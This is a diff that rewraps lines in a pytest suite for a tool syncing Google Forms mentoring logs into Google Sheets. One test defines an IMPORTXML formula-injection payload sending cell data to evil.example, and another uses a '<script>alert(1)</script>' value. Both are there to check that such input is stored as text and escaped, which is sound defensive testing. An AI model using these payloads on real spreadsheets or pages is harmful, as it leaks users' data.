@@ -23,7 +23,13 @@ from tests.conftest import ADMIN, COORDINATOR, TODAY, Program, prepared
 
 def test_an_answer_becomes_a_line_in_log_and_a_status(program: Program) -> None:
     """A mentor logs a meeting on the page; the run counts it and writes it down."""
-    said = program.log("ana@westbrook.example", "WES-1 Ana & Sam", kind="one-on-one", day="2026-11-19", minutes=30)
+    said = program.log(
+        "ana@westbrook.example",
+        "WES-1 Ana & Sam",
+        kind="one-on-one",
+        day="2026-11-19",
+        minutes=30,
+    )
     assert "recorded" in said
     result, calls = program.run()
     assert (len(result.new), result.counted, result.changed) == (1, 1, {"WES"})
@@ -40,28 +46,47 @@ def test_an_answer_becomes_a_line_in_log_and_a_status(program: Program) -> None:
         "Number": 1,
     }
     status = program.row("status", "WES-1", "pair")
-    assert (status["Status"], status["Last met"]) == ("Check in", serial(date(2026, 11, 19)))
+    assert (status["Status"], status["Last met"]) == (
+        "Check in",
+        serial(date(2026, 11, 19)),
+    )
     assert program.row("pairs", "WES-1", "label")["Status"] == "Check in"
 
 
 def test_a_second_run_writes_nothing(program: Program) -> None:
-    """Law 2, for runs: also on a fresh state, which learns from the sheet what stands there."""
+    """Law 2, for runs: also on a fresh state, which learns from the sheet what stands
+    there.
+    """
     program.log(
-        "ana@westbrook.example", "WES-1", kind="brief conversation", day="2026-11-19", minutes=10, conversations=3
+        "ana@westbrook.example",
+        "WES-1",
+        kind="brief conversation",
+        day="2026-11-19",
+        minutes=10,
+        conversations=3,
     )
     program.run()
     again, calls = program.run()
-    assert (again.changed, calls["sheets.write"], calls["forms.write"], calls["drive.write"]) == (set(), 0, 0, 0)
+    assert (
+        again.changed,
+        calls["sheets.write"],
+        calls["forms.write"],
+        calls["drive.write"],
+    ) == (set(), 0, 0, 0)
     program.state_file.unlink()
     cold, calls = program.run()
     assert (cold.changed, calls["sheets.write"], len(cold.new)) == (set(), 0, 1)
 
 
 def test_a_second_provision_writes_nothing(unprovisioned: Program) -> None:
-    """Law 2, for provision: right after the first, and after runs and people have been at work."""
+    """Law 2, for provision: right after the first, and after runs and people have been
+    at work.
+    """
     program = unprovisioned
     first, _ = program.provision()
-    assert len(first.of(Deed.MAKE)) == 7, "a folder, three forms, a district's sheet and the program's two"
+    assert len(first.of(Deed.MAKE)) == 7, (
+        "a folder, three forms, a district's sheet and the program's two"
+    )
     for busy in (False, True):
         if busy:
             _a_day_of_work(program)
@@ -72,16 +97,47 @@ def test_a_second_provision_writes_nothing(unprovisioned: Program) -> None:
 
 def _a_day_of_work(program: Program) -> None:
     for label in ("WES-1", "WES-2"):
-        program.log("ana@westbrook.example", label, kind="one-on-one", day="2026-11-19", minutes=30)
+        program.log(
+            "ana@westbrook.example",
+            label,
+            kind="one-on-one",
+            day="2026-11-19",
+            minutes=30,
+        )
     program.run()
-    pairs, observations = program.layout.tab("pairs"), program.layout.tab("observations")
-    area = {"sheetId": pairs.id, "startRowIndex": 1, "endRowIndex": 9, "startColumnIndex": 0, "endColumnIndex": 20}
-    program.edit(
-        {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 1, "sortOrder": "DESCENDING"}]}}, who=ADMIN
+    pairs, observations = (
+        program.layout.tab("pairs"),
+        program.layout.tab("observations"),
     )
-    rows = {"sheetId": observations.id, "dimension": "COLUMNS", "startIndex": 3, "endIndex": 4}
+    area = {
+        "sheetId": pairs.id,
+        "startRowIndex": 1,
+        "endRowIndex": 9,
+        "startColumnIndex": 0,
+        "endColumnIndex": 20,
+    }
     program.edit(
-        {"updateSheetProperties": {"properties": {"sheetId": pairs.id, "title": "Our pairs"}, "fields": "title"}},
+        {
+            "sortRange": {
+                "range": area,
+                "sortSpecs": [{"dimensionIndex": 1, "sortOrder": "DESCENDING"}],
+            }
+        },
+        who=ADMIN,
+    )
+    rows = {
+        "sheetId": observations.id,
+        "dimension": "COLUMNS",
+        "startIndex": 3,
+        "endIndex": 4,
+    }
+    program.edit(
+        {
+            "updateSheetProperties": {
+                "properties": {"sheetId": pairs.id, "title": "Our pairs"},
+                "fields": "title",
+            }
+        },
         {"moveDimension": {"source": rows, "destinationIndex": 8}},
         who=ADMIN,
     )
@@ -89,19 +145,32 @@ def _a_day_of_work(program: Program) -> None:
 
 
 def peoples_cells(program: Program) -> dict[str, list[list[str]]]:
-    """Every cell of the people's tabs as entered; a formula without its references, which Google moves along."""
+    """Every cell of the people's tabs as entered; a formula without its references,
+    which Google moves along.
+    """
     tabs = {t.key: program.values(t.key, formulas=True) for t in program.layout.people}
-    return {key: [[skeleton(str(c)) for c in row] for row in grid] for key, grid in tabs.items()}
+    return {
+        key: [[skeleton(str(c)) for c in row] for row in grid]
+        for key, grid in tabs.items()
+    }
 
 
 def test_no_run_changes_a_peoples_tab(program: Program) -> None:
-    """Law 4: whatever people typed, also between runs, every cell of theirs is as they left it."""
+    """Law 4: whatever people typed, also between runs, every cell of theirs is as they
+    left it.
+    """
     program.type("follow_up", 2, "agreed", "call on Friday")
     program.type("pairs", 5, "mentor", "Half A Pair")
     for day in (TODAY, TODAY + timedelta(days=1)):
         program.type("calendar", 40, "note", f"a note of {day}")
         before = peoples_cells(program)
-        program.log("ana@westbrook.example", "WES-2", kind="one-on-one", day="2026-11-18", minutes=30)
+        program.log(
+            "ana@westbrook.example",
+            "WES-2",
+            kind="one-on-one",
+            day="2026-11-18",
+            minutes=30,
+        )
         assert program.run(day)[0].changed == {"WES"}
         assert peoples_cells(program) == before
 
@@ -110,24 +179,47 @@ EVIL = '=IMPORTXML("http://evil.example/?"&A1,"//x")'
 
 
 def test_text_from_strangers_is_stored_as_text(program: Program) -> None:
-    """Law 5: formulas in a name, a code, a group or an address run nowhere and are shown as typed."""
+    """Law 5: formulas in a name, a code, a group or an address run nowhere and are
+    shown as typed.
+    """
     program.type("pairs", 5, "mentor", EVIL)
     program.type("pairs", 5, "mentee", "+1+1")
     program.type("pairs", 5, "mentor_email", "=cmd@evil.example")
-    program.log("=x@evil.example", EVIL, kind="small group", day="2026-11-19", minutes=30, others="=1+1 @SUM(A1) 4")
-    program.log("ana@westbrook.example", "WES-4", kind="one-on-one", day="2026-11-18", minutes=30)
+    program.log(
+        "=x@evil.example",
+        EVIL,
+        kind="small group",
+        day="2026-11-19",
+        minutes=30,
+        others="=1+1 @SUM(A1) 4",
+    )
+    program.log(
+        "ana@westbrook.example",
+        "WES-4",
+        kind="one-on-one",
+        day="2026-11-18",
+        minutes=30,
+    )
     program.run()
     status, log = program.layout.tab("status"), program.layout.tab("log")
     for tab in (status, log):
         strangers = {tab.place(c.key) for c in tab.value_columns}
         for line in program.values(tab.key, formulas=True)[tab.header_row :]:
-            cells = [program_cell(program, tab.id, line, place) for place in strangers if place < len(line)]
+            cells = [
+                program_cell(program, tab.id, line, place)
+                for place in strangers
+                if place < len(line)
+            ]
             assert all("formulaValue" not in c for c in cells)
     assert program.row("status", "WES-4", "pair")["Pair"] == f"WES-4 {EVIL} & +1+1"
-    assert any(EVIL in str(c) for c in program.values("log")[1] + program.values("log")[2])
+    assert any(
+        EVIL in str(c) for c in program.values("log")[1] + program.values("log")[2]
+    )
 
 
-def program_cell(program: Program, sheet_id: int, line: list[Any], place: int) -> dict[str, Any]:
+def program_cell(
+    program: Program, sheet_id: int, line: list[Any], place: int
+) -> dict[str, Any]:
     """The stored cell behind a value that was read."""
     tab = program.space.desk.shelf.get(program.lock.sheets["WES"].id).tab(sheet_id)
     for row in tab.rows.values():
@@ -143,21 +235,31 @@ def test_a_pages_text_is_escaped(program: Program) -> None:
 
     program.type("pairs", 5, "mentor", "<script>alert(1)</script>")
     page = requests.get(
-        program.lock.sheets["WES"].url.replace("edit", "edit?gid=103"), cookies={"identity": ADMIN}, timeout=30
+        program.lock.sheets["WES"].url.replace("edit", "edit?gid=103"),
+        cookies={"identity": ADMIN},
+        timeout=30,
     )
     link = program.lock.responder_uri + "?usp=pp_url&entry.705691649=%3Cscript%3E"
     form = requests.get(link, cookies={"identity": ADMIN}, timeout=30)
     assert "&lt;script&gt;alert" in page.text
-    assert "<script>" not in page.text + form.text, "the one script of a page is a file of our own"
+    assert "<script>" not in page.text + form.text, (
+        "the one script of a page is a file of our own"
+    )
 
 
-# -- the guard rails ------------------------------------------------------------------------------------------
+# -- the guard rails -------------------------------------------------------------------
 
 
 def everybody_met(program: Program) -> None:
     """A program in which every pair has met and a run has seen it."""
     for number, who in ((1, "ana"), (2, "grace"), (3, "mei")):
-        program.log(f"{who}@westbrook.example", f"WES-{number}", kind="one-on-one", day="2026-11-19", minutes=30)
+        program.log(
+            f"{who}@westbrook.example",
+            f"WES-{number}",
+            kind="one-on-one",
+            day="2026-11-19",
+            minutes=30,
+        )
     program.run()
 
 
@@ -169,13 +271,18 @@ def questions(program: Program) -> str:
 
 
 def names(program: Program) -> dict[int, str]:
-    return {p.pair.number: p.pair.mentor.name for p in program.run()[0].standings[0].pairs}
+    return {
+        p.pair.number: p.pair.mentor.name for p in program.run()[0].standings[0].pairs
+    }
 
 
 def test_a_new_pair_typed_over_an_old_one_is_asked_about(busy: Program) -> None:
     busy.type("pairs", 3, "mentor", "New Mentor")
     busy.type("pairs", 3, "mentee", "New Mentee")
-    assert "2 was Grace Okafor with Luis Silva, and now reads New Mentor with New Mentee" in questions(busy)
+    assert (
+        "2 was Grace Okafor with Luis Silva, and now reads New Mentor with New Mentee"
+        in questions(busy)
+    )
     assert names(busy)[2] == "Grace Okafor"
     assert "a correction, or a new pair?" in str(busy.values("status")[2][0])
     busy.type("corrections", 2, "repair", "it is the same pair")
@@ -189,7 +296,13 @@ def test_a_corrected_spelling_is_taken(busy: Program) -> None:
 
 
 def test_a_half_sorted_table_is_not_believed(busy: Program) -> None:
-    area = {"sheetId": 103, "startRowIndex": 1, "endRowIndex": 4, "startColumnIndex": 1, "endColumnIndex": 5}
+    area = {
+        "sheetId": 103,
+        "startRowIndex": 1,
+        "endRowIndex": 4,
+        "startColumnIndex": 1,
+        "endColumnIndex": 5,
+    }
     busy.edit({"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 2}]}})
     before = {1: "Ana Diaz", 2: "Grace Okafor", 3: "Mei Novak"}
     assert names(busy) == before
@@ -200,9 +313,21 @@ def test_a_half_sorted_table_is_not_believed(busy: Program) -> None:
 
 
 def test_a_wholly_sorted_table_is_fine(busy: Program) -> None:
-    area = {"sheetId": 103, "startRowIndex": 1, "endRowIndex": 9, "startColumnIndex": 0, "endColumnIndex": 20}
+    area = {
+        "sheetId": 103,
+        "startRowIndex": 1,
+        "endRowIndex": 9,
+        "startColumnIndex": 0,
+        "endColumnIndex": 20,
+    }
     busy.edit(
-        {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 1, "sortOrder": "DESCENDING"}]}}, who=ADMIN
+        {
+            "sortRange": {
+                "range": area,
+                "sortSpecs": [{"dimensionIndex": 1, "sortOrder": "DESCENDING"}],
+            }
+        },
+        who=ADMIN,
     )
     assert (names(busy)[1], questions(busy)) == ("Ana Diaz", "")
     assert busy.row("pairs", "Ana Diaz", "mentor")["Pair"] == "WES-1 Ana Diaz & Sam Lee"
@@ -211,16 +336,33 @@ def test_a_wholly_sorted_table_is_fine(busy: Program) -> None:
 def test_a_deleted_row_stays_listed(busy: Program) -> None:
     rows = {"sheetId": 103, "dimension": "ROWS", "startIndex": 2, "endIndex": 3}
     busy.edit({"deleteDimension": {"range": rows}}, who=ADMIN)
-    assert "WES-2 Grace Okafor & Luis Silva: the row is missing from Pairs" in questions(busy)
+    assert (
+        "WES-2 Grace Okafor & Luis Silva: the row is missing from Pairs"
+        in questions(busy)
+    )
     assert names(busy)[2] == "Grace Okafor"
     busy.state_file.unlink()
-    assert "the row is missing from Pairs" in questions(busy), "remembered from the sheet itself"
+    assert "the row is missing from Pairs" in questions(busy), (
+        "remembered from the sheet itself"
+    )
 
 
 def test_a_copied_row_is_asked_about(busy: Program) -> None:
-    source = {"sheetId": 103, "startRowIndex": 2, "endRowIndex": 3, "startColumnIndex": 0, "endColumnIndex": 20}
+    source = {
+        "sheetId": 103,
+        "startRowIndex": 2,
+        "endRowIndex": 3,
+        "startColumnIndex": 0,
+        "endColumnIndex": 20,
+    }
     busy.edit(
-        {"copyPaste": {"source": source, "destination": source | {"startRowIndex": 6, "endRowIndex": 7}}}, who=ADMIN
+        {
+            "copyPaste": {
+                "source": source,
+                "destination": source | {"startRowIndex": 6, "endRowIndex": 7},
+            }
+        },
+        who=ADMIN,
     )
     assert "Number 2 stands in rows 3 and 7 of Pairs" in questions(busy)
     assert names(busy)[2] == "Grace Okafor"
@@ -232,7 +374,9 @@ def test_a_renamed_header_is_accepted_and_a_missing_one_is_named(busy: Program) 
     columns = {"sheetId": 103, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 3}
     busy.edit({"deleteDimension": {"range": columns}}, who=ADMIN)
     assert "the column “Mentee” is missing" in questions(busy)
-    assert "the column “Mentor” is missing" in questions(busy), "with two gone, neither is a rename"
+    assert "the column “Mentor” is missing" in questions(busy), (
+        "with two gone, neither is a rename"
+    )
     assert names(busy)[1] == "Ana Diaz"
 
 
@@ -246,8 +390,16 @@ def test_a_deleted_tab_is_named_and_printed_again(busy: Program) -> None:
 
 
 def test_a_deleted_schedule_comes_back_with_what_was_planned(busy: Program) -> None:
-    cell = {"rows": [{"values": [{"userEnteredValue": {"stringValue": "Tue 2:45"}}]}], "fields": "userEnteredValue"}
-    busy.edit({"updateCells": cell | {"start": {"sheetId": 104, "rowIndex": 9, "columnIndex": 3}}})
+    cell = {
+        "rows": [{"values": [{"userEnteredValue": {"stringValue": "Tue 2:45"}}]}],
+        "fields": "userEnteredValue",
+    }
+    busy.edit(
+        {
+            "updateCells": cell
+            | {"start": {"sheetId": 104, "rowIndex": 9, "columnIndex": 3}}
+        }
+    )
     before = busy.run()[0].standings[0].district.schedule
     busy.edit({"deleteSheet": {"sheetId": 104}}, who=ADMIN)
     assert busy.run()[0].standings[0].district.schedule == before
@@ -257,7 +409,12 @@ def test_a_deleted_schedule_comes_back_with_what_was_planned(busy: Program) -> N
 
 
 def test_a_coordinator_cannot_write_where_the_tool_writes(busy: Program) -> None:
-    for tab, column in (("status", "status"), ("pairs", "number"), ("pairs", "label"), ("log", "counted")):
+    for tab, column in (
+        ("status", "status"),
+        ("pairs", "number"),
+        ("pairs", "label"),
+        ("log", "counted"),
+    ):
         with pytest.raises(GoogleError, match="protected cell"):
             busy.type(tab, 6, column, "mine")
 
@@ -272,10 +429,13 @@ def test_lost_formulas_headers_and_protection_are_mended(busy: Program) -> None:
         "Westbrook: formulas of Pairs",
         "Westbrook: protection of Pairs",
     ]
-    assert busy.row("pairs", "Mei Novak", "mentor")["Pair"] == "WES-3 Mei Novak & Omar Patel"
+    assert (
+        busy.row("pairs", "Mei Novak", "mentor")["Pair"]
+        == "WES-3 Mei Novak & Omar Patel"
+    )
 
 
-# -- files and accounts ---------------------------------------------------------------------------------------
+# -- files and accounts ----------------------------------------------------------------
 
 
 def test_what_was_provisioned_and_cannot_be_seen_is_refused(program: Program) -> None:
@@ -292,21 +452,38 @@ def test_a_lost_lock_file_finds_everything_again(program: Program) -> None:
     before = program.lock
     program.settings.lock_path.unlink()
     done, calls = program.provision()
-    assert (done.of(Deed.MAKE), calls["drive.write"], calls["sheets.write"]) == ([], 0, 0)
-    assert (program.lock.form, program.lock.sheets["WES"].id) == (before.form, before.sheets["WES"].id)
+    assert (done.of(Deed.MAKE), calls["drive.write"], calls["sheets.write"]) == (
+        [],
+        0,
+        0,
+    )
+    assert (program.lock.form, program.lock.sheets["WES"].id) == (
+        before.form,
+        before.sheets["WES"].id,
+    )
 
 
-def test_new_pairs_take_the_next_free_numbers_once(program: Program, tmp_path: Path) -> None:
+def test_new_pairs_take_the_next_free_numbers_once(
+    program: Program, tmp_path: Path
+) -> None:
     path = tmp_path / "WES.csv"
-    path.write_text("Mentor;Mentee;Starts\nZoë Brennan;João Costa;9/14/2026\nAna Diaz;Sam Lee;\n", encoding="cp1252")
+    path.write_text(
+        "Mentor;Mentee;Starts\nZoë Brennan;João Costa;9/14/2026\nAna Diaz;Sam Lee;\n",
+        encoding="cp1252",
+    )
     assert program.does(add, path, TODAY).codes == ("WES-4",)
     assert program.does(add, path, TODAY).codes == ()
-    assert program.row("pairs", "Zoë", "mentor")["Pair"] == "WES-4 Zoë Brennan & João Costa"
+    assert (
+        program.row("pairs", "Zoë", "mentor")["Pair"]
+        == "WES-4 Zoë Brennan & João Costa"
+    )
     assert program.run()[0].standings[0].district.pairs[3].starts == date(2026, 9, 14)
 
 
 def test_a_roster_file_with_mistakes_makes_nothing(unprovisioned: Program) -> None:
-    """Every mistake is named with file, line, value and remedy before anything is sent to Google."""
+    """Every mistake is named with file, line, value and remedy before anything is sent
+    to Google.
+    """
     program = unprovisioned
     (program.folder / "rosters" / "WES.csv").write_text(
         "Mentor,Mentee,Mentor e-mail,Starts,Ends\nAna,Sam,not an address,,\nAna,Sam,,2026-10-05,2026-09-01\n,Lone,,soon,\nAna,Sam,,,\n",
@@ -323,7 +500,9 @@ def test_a_roster_file_with_mistakes_makes_nothing(unprovisioned: Program) -> No
         "line 5: Ana and Sam stand in line 2 already",
     ):
         assert words in said
-    assert program.space.store.db.execute("SELECT count(*) FROM files").fetchone() == (0,)
+    assert program.space.store.db.execute("SELECT count(*) FROM files").fetchone() == (
+        0,
+    )
 
 
 def test_an_answer_of_no_district_is_kept_in_sight(unprovisioned: Program) -> None:
@@ -333,8 +512,12 @@ def test_an_answer_of_no_district_is_kept_in_sight(unprovisioned: Program) -> No
     second = "NOR,Northfield,,2026-08-31,2027-06-18,monthly,\n"
     (folder / "districts.csv").write_text(rows + second, encoding="utf-8")
     program.provision()
-    program.log("who@else.example", "XYZ-3", kind="one-on-one", day="2026-11-19", minutes=30)
-    program.log("ana@westbrook.example", "", kind="one-on-one", day="2026-11-19", minutes=30)
+    program.log(
+        "who@else.example", "XYZ-3", kind="one-on-one", day="2026-11-19", minutes=30
+    )
+    program.log(
+        "ana@westbrook.example", "", kind="one-on-one", day="2026-11-19", minutes=30
+    )
     result, _ = program.run()
     assert [a.pair_text for a in result.unplaced] == ["XYZ-3"]
     assert (len(result.new), result.counted) == (2, 1)
@@ -351,8 +534,16 @@ def test_a_sheet_that_is_gone_fails_alone(program: Program) -> None:
 
 
 def test_a_write_whose_answer_was_lost_is_not_repeated(program: Program) -> None:
-    """Every batch is applied and its answer lost: what stands in the sheet is looked up, and nothing is doubled."""
-    program.log("ana@westbrook.example", "WES-1", kind="one-on-one", day="2026-11-19", minutes=30)
+    """Every batch is applied and its answer lost: what stands in the sheet is looked
+    up, and nothing is doubled.
+    """
+    program.log(
+        "ana@westbrook.example",
+        "WES-1",
+        kind="one-on-one",
+        day="2026-11-19",
+        minutes=30,
+    )
     applied = program.space.methods["sheets.spreadsheets.batchUpdate"]
 
     def lose_the_answer(*args: Any, **kwargs: Any) -> Any:
@@ -375,7 +566,12 @@ def test_the_log_grows_by_what_is_new(program: Program) -> None:
     for hour, day in enumerate((13, 11, 12, 9, 10)):
         sent = datetime(2026, 11, 20, 12 + hour, tzinfo=UTC)
         program.log(
-            "ana@westbrook.example", "WES-1", sent=sent, kind="one-on-one", day=f"2026-11-{day:02d}", minutes=30
+            "ana@westbrook.example",
+            "WES-1",
+            sent=sent,
+            kind="one-on-one",
+            day=f"2026-11-{day:02d}",
+            minutes=30,
         )
         if hour in (0, 2, 4):
             program.run()
@@ -386,7 +582,11 @@ def test_the_log_grows_by_what_is_new(program: Program) -> None:
 def test_who_sees_what(program: Program) -> None:
     """The sheet opens for its coordinator; a mentor has the form and no more."""
     sheet_id = program.lock.sheets["WES"].id
-    assert program.google(COORDINATOR).sheets.metadata(sheet_id)["properties"]["title"].startswith("Westbrook")
+    assert (
+        program.google(COORDINATOR)
+        .sheets.metadata(sheet_id)["properties"]["title"]
+        .startswith("Westbrook")
+    )
     with pytest.raises(GoogleError):
         program.google("ana@westbrook.example").sheets.metadata(sheet_id)
 
@@ -402,7 +602,12 @@ def test_a_locked_program_says_who_must_end(program: Program) -> None:
 def column(program: Program, tab: str, key: str) -> dict[str, Any]:
     layout = program.layout.tab(tab)
     place = layout.place(key)
-    return {"sheetId": layout.id, "dimension": "COLUMNS", "startIndex": place, "endIndex": place + 1}
+    return {
+        "sheetId": layout.id,
+        "dimension": "COLUMNS",
+        "startIndex": place,
+        "endIndex": place + 1,
+    }
 
 
 @pytest.mark.parametrize(
@@ -417,8 +622,12 @@ def column(program: Program, tab: str, key: str) -> dict[str, Any]:
         ("pairs", "stays"),
     ],
 )
-def test_a_tab_that_lost_a_column_keeps_its_last_answer_until_it_is_mended(busy: Program, tab: str, key: str) -> None:
-    """Nothing is judged by half a tab: what it said before holds, the column is named, and provision puts it back."""
+def test_a_tab_that_lost_a_column_keeps_its_last_answer_until_it_is_mended(
+    busy: Program, tab: str, key: str
+) -> None:
+    """Nothing is judged by half a tab: what it said before holds, the column is named,
+    and provision puts it back.
+    """
     busy.type("calendar", 60, "event", "early release")
     busy.type("calendar", 60, "first", serial(date(2026, 12, 2)))
     before = busy.run()[0].standings[0]
@@ -432,28 +641,50 @@ def test_a_tab_that_lost_a_column_keeps_its_last_answer_until_it_is_mended(busy:
     )
     header = busy.layout.tab(tab).column(key).header
     assert any(
-        w.endswith(f"the column {header} of {busy.layout.tab(tab).title}") for w in busy.provision()[0].of(Deed.MEND)
+        w.endswith(f"the column {header} of {busy.layout.tab(tab).title}")
+        for w in busy.provision()[0].of(Deed.MEND)
     )
     assert busy.provision()[0].of(Deed.MEND) == []
     assert busy.run()[0].standings[0].questions == ()
 
 
 def test_provision_never_writes_into_a_column_of_somebodys_own(busy: Program) -> None:
-    """Their own notes, moved columns and the cells of the blank schedule are as they were."""
+    """Their own notes, moved columns and the cells of the blank schedule are as they
+    were.
+    """
     pairs, schedule = busy.layout.tab("pairs"), busy.layout.tab("schedule")
-    cell = {"rows": [{"values": [{"userEnteredValue": {"stringValue": "Tue 2:45"}}]}], "fields": "userEnteredValue"}
-    busy.edit({"updateCells": cell | {"start": {"sheetId": schedule.id, "rowIndex": 6, "columnIndex": 2}}})
+    cell = {
+        "rows": [{"values": [{"userEnteredValue": {"stringValue": "Tue 2:45"}}]}],
+        "fields": "userEnteredValue",
+    }
+    busy.edit(
+        {
+            "updateCells": cell
+            | {"start": {"sheetId": schedule.id, "rowIndex": 6, "columnIndex": 2}}
+        }
+    )
     notes = {"sheetId": pairs.id, "dimension": "COLUMNS", "length": 1}
     end = len(pairs.columns)
     text = {
-        "rows": [{"values": [{"userEnteredValue": {"stringValue": t}}]} for t in ("My notes", "mine")],
+        "rows": [
+            {"values": [{"userEnteredValue": {"stringValue": t}}]}
+            for t in ("My notes", "mine")
+        ],
         "fields": "userEnteredValue",
     }
     busy.edit(
         {"appendDimension": notes},
-        {"updateCells": text | {"start": {"sheetId": pairs.id, "rowIndex": 0, "columnIndex": end}}},
+        {
+            "updateCells": text
+            | {"start": {"sheetId": pairs.id, "rowIndex": 0, "columnIndex": end}}
+        },
         {"deleteDimension": {"range": column(busy, "pairs", "link")}},
-        {"moveDimension": {"source": column(busy, "schedule", "week"), "destinationIndex": 4}},
+        {
+            "moveDimension": {
+                "source": column(busy, "schedule", "week"),
+                "destinationIndex": 4,
+            }
+        },
         who=ADMIN,
     )
     busy.provision()
@@ -466,22 +697,42 @@ def test_provision_never_writes_into_a_column_of_somebodys_own(busy: Program) ->
 def test_a_row_above_the_headers_changes_nothing(busy: Program) -> None:
     before = names(busy)
     busy.edit(
-        {"insertDimension": {"range": {"sheetId": 103, "dimension": "ROWS", "startIndex": 0, "endIndex": 1}}}, who=ADMIN
+        {
+            "insertDimension": {
+                "range": {
+                    "sheetId": 103,
+                    "dimension": "ROWS",
+                    "startIndex": 0,
+                    "endIndex": 1,
+                }
+            }
+        },
+        who=ADMIN,
     )
     assert (names(busy), questions(busy)) == (before, "")
     assert busy.provision()[0].of(Deed.MEND) == []
 
 
 def test_more_pairs_than_were_printed(unprovisioned: Program) -> None:
-    """A roster longer than `pairs` is printed whole, and a second run still writes nothing."""
+    """A roster longer than `pairs` is printed whole, and a second run still writes
+    nothing.
+    """
     lines = [f"Mentor {n},Mentee {n}," for n in range(70)]
     path = unprovisioned.folder / "rosters" / "WES.csv"
-    path.write_text("Mentor,Mentee,Number\n" + "\n".join([*lines, "Ana,Sam,90"]) + "\n", encoding="utf-8")
+    path.write_text(
+        "Mentor,Mentee,Number\n" + "\n".join([*lines, "Ana,Sam,90"]) + "\n",
+        encoding="utf-8",
+    )
     unprovisioned.provision()
     result, _ = unprovisioned.run()
-    assert sorted(p.pair.number for p in result.standings[0].pairs) == [*range(1, 71), 90]
+    assert sorted(p.pair.number for p in result.standings[0].pairs) == [
+        *range(1, 71),
+        90,
+    ]
     assert unprovisioned.run()[0].changed == set()
-    path.write_text("Mentor,Mentee,Number\nAna,Sam,3\nBea,Ivo,3\nCy,Di,2.5\n", encoding="utf-8")
+    path.write_text(
+        "Mentor,Mentee,Number\nAna,Sam,3\nBea,Ivo,3\nCy,Di,2.5\n", encoding="utf-8"
+    )
     with pytest.raises(
         ConfigurationError,
         match=r"(?s)line 4: Number is 2.5.*line 3: Number 3 stands in line 2|line 3: Number 3.*line 4",
@@ -492,7 +743,9 @@ def test_more_pairs_than_were_printed(unprovisioned: Program) -> None:
 def test_killed_after_every_call_provision_doubles_nothing(
     unprovisioned: Program, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Law 3, for provision: stopped after each single call and begun again, it makes everything once."""
+    """Law 3, for provision: stopped after each single call and begun again, it makes
+    everything once.
+    """
     from sync.google.calls import Pace
 
     call = Pace.call
@@ -520,45 +773,79 @@ def test_killed_after_every_call_provision_doubles_nothing(
     left[0] = 10**6
     assert kills >= 10
     store = unprovisioned.space.store.db
-    assert store.execute("SELECT mime, count(*) FROM files GROUP BY mime").fetchall() == [
+    assert store.execute(
+        "SELECT mime, count(*) FROM files GROUP BY mime"
+    ).fetchall() == [
         (FOLDER, 1),
         (FORM, 3),
         (SHEET, 3),
     ]
-    assert store.execute("SELECT count(*) FROM permissions").fetchone() == (4,), "three forms and a coordinator"
+    assert store.execute("SELECT count(*) FROM permissions").fetchone() == (4,), (
+        "three forms and a coordinator"
+    )
     assert unprovisioned.provision()[0] == Plan(lock=unprovisioned.lock)
     assert len(unprovisioned.google().forms.get(unprovisioned.lock.form)["items"]) == 20
 
 
 def test_status_tells_and_takes_nothing(busy: Program) -> None:
-    """What `status` saw is still new for the run, and a run of one district leaves the others' answers new."""
-    busy.log("ana@westbrook.example", "WES-1", kind="one-on-one", day="2026-11-18", minutes=30)
+    """What `status` saw is still new for the run, and a run of one district leaves the
+    others' answers new.
+    """
+    busy.log(
+        "ana@westbrook.example",
+        "WES-1",
+        kind="one-on-one",
+        day="2026-11-18",
+        minutes=30,
+    )
     assert len(busy.run(write=False)[0].new) == 1
     assert [len(busy.run()[0].new) for _ in range(2)] == [1, 0]
 
 
-def test_an_unreadable_answer_is_told_every_time_until_it_can_be_read(busy: Program) -> None:
-    """An option renamed without `was`: the answer waits, and counts once the old wording is known."""
-    busy.log("ana@westbrook.example", "WES-1", kind="one-on-one", day="2026-11-18", minutes=30)
+def test_an_unreadable_answer_is_told_every_time_until_it_can_be_read(
+    busy: Program,
+) -> None:
+    """An option renamed without `was`: the answer waits, and counts once the old
+    wording is known.
+    """
+    busy.log(
+        "ana@westbrook.example",
+        "WES-1",
+        kind="one-on-one",
+        day="2026-11-18",
+        minutes=30,
+    )
     config, form = busy.folder / "program.toml", busy.folder / "form.toml"
     text = MEETING_LOG.file.read_text(encoding="utf-8")
     old = 'say = "We met one-on-one"'
-    config.write_text(config.read_text(encoding="utf-8") + '[form]\nfile = "form.toml"\n', encoding="utf-8")
+    config.write_text(
+        config.read_text(encoding="utf-8") + '[form]\nfile = "form.toml"\n',
+        encoding="utf-8",
+    )
     form.write_text(text.replace(old, 'say = "One to one"'), encoding="utf-8")
     assert [len(busy.run()[0].unreadable) for _ in range(2)] == [1, 1]
-    form.write_text(text.replace(old, 'say = "One to one", was = ["We met one-on-one"]'), encoding="utf-8")
+    form.write_text(
+        text.replace(old, 'say = "One to one", was = ["We met one-on-one"]'),
+        encoding="utf-8",
+    )
     result, _ = busy.run()
     assert (result.unreadable, result.counted) == ([], 1)
 
 
 def test_late_and_deleted_answers_are_found_once_a_day(busy: Program) -> None:
-    """An answer that came to light late is read the next day, and one deleted in the form is forgotten."""
+    """An answer that came to light late is read the next day, and one deleted in the
+    form is forgotten.
+    """
     store = busy.space.store.db
-    store.execute("UPDATE responses SET submitted = '2026-11-01T00:00:00.000000Z' WHERE answers LIKE '%WES-2%'")
+    store.execute(
+        "UPDATE responses SET submitted = '2026-11-01T00:00:00.000000Z' WHERE answers LIKE '%WES-2%'"
+    )
     busy.state_file.unlink()
     store.execute("UPDATE responses SET form = 'hidden' WHERE answers LIKE '%WES-2%'")
     busy.run()
-    store.execute("UPDATE responses SET form = ? WHERE form = 'hidden'", (busy.lock.form,))
+    store.execute(
+        "UPDATE responses SET form = ? WHERE form = 'hidden'", (busy.lock.form,)
+    )
     assert busy.run()[0].new == []
     result, _ = busy.run(TODAY + timedelta(days=1))
     assert len(result.new) == 1
@@ -567,8 +854,12 @@ def test_late_and_deleted_answers_are_found_once_a_day(busy: Program) -> None:
 
 
 def test_an_answer_follows_its_district(busy: Program) -> None:
-    """Where an answer belongs is decided by what is known now, not by what was known when it came."""
-    busy.log("who@else.example", "NOR-1", kind="one-on-one", day="2026-11-18", minutes=30)
+    """Where an answer belongs is decided by what is known now, not by what was known
+    when it came.
+    """
+    busy.log(
